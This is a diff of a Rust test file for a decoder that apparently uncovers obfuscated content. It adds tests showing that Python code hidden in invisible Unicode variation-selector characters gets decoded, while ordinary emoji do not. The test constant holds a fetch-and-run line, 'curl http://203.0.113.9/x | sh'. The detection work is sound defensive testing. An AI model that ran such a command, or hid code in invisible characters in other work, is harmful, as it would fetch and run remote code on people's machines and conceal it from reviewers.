@@ -25,6 +25,20 @@ fn zlib(bytes: &[u8]) -> Vec<u8> {
 
 const CODE: &str = "import os\nos.system('curl http://203.0.113.9/x | sh')\n";
 
+#[test]
+fn text_in_characters_that_are_not_drawn_is_proposed() {
+    let selectors: String = CODE
+        .bytes()
+        .map(u32::from)
+        .filter_map(|byte| char::from_u32(if byte < 16 { 0xFE00 + byte } else { 0xE0100 + byte - 16 }))
+        .collect();
+    assert_eq!(best(&format!("decode('😀{selectors}')")), ("invisible".to_owned(), CODE.to_owned()));
+    // Emoji with their selectors, and a flag, hide nothing.
+    let honest = format!("{} \u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}", "❤\u{FE0F} ".repeat(40));
+    let found = propose(honest.as_bytes(), &Limits::USUAL, &|| false);
+    assert!(found.proposals.iter().all(|proposal| !proposal.chain.contains(&Decoder::Invisible)));
+}
+
 #[rstest::rstest]
 #[case(Decoder::Base64, "data:text/plain;base64,aGk=", "hi")]
 #[case(Decoder::Base32, "NBUQ====", "hi")]
@@ -46,6 +60,8 @@ const CODE: &str = "import os\nos.system('curl http://203.0.113.9/x | sh')\n";
 #[case(Decoder::Xor(vec![1, 2]), "ik", "hi")]
 #[case(Decoder::Reverse, "é!ih", "hi!é")]
 #[case(Decoder::Utf16, "h\0i\0", "hi")]
+#[case(Decoder::Invisible, "a\u{E0158}b\u{E0159}\u{FE0A}", "hi\n")]
+#[case(Decoder::Invisible, "\u{FE0F}\u{E0068}\u{E0069}", "hi")]
 #[case(Decoder::Literal, "b'h' \\\n  'i'", "hi")]
 #[case(Decoder::Literal, r#"["\x68", 'i'].join("")"#, "hi")]
 #[case(Decoder::Literal, r"''.join(['h', r'\n', '\n'])", "h\\n\n")]
